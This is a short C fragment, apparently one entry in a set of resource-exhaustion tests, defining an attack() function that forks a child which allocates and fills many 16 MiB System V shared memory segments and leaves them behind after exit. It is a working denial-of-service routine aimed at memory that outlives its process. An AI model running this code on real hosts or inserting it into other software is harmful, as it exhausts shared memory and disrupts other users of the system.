// Fills System V shared memory, which stays when its process has gone.
// Points: any
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>
static void attack(void)
{
    if (fork())
        return;
    for (int i = 0; i < 4096; i++) {
        void *memory = shmat(shmget(IPC_PRIVATE, 1 << 24, 0600), NULL, 0);
        if (memory == (void *)-1)
            break;
        memset(memory, 1, 1 << 24);
        shmdt(memory);
    }
    _exit(0);
}
